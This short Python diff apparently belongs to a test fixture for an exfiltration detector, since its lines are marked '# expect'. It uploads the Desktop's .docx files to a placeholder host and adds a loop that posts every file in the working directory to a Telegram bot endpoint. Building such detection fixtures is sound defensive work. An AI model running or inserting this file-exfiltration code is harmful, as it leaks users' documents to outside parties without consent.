@@ -29,3 +29,8 @@ collector.pack()
 collector.deliver()
 for path in (pathlib.Path.home() / "Desktop").rglob("*.docx"):
     requests.put("https://collect.invalid/p", data=path.read_bytes())  # expect
+
+for name in os.listdir():
+    if os.path.isfile(name):
+        with open(name, "rb") as f:
+            requests.post("https://api.telegram.org/bot1:a/sendDocument", files={"document": f})  # expect
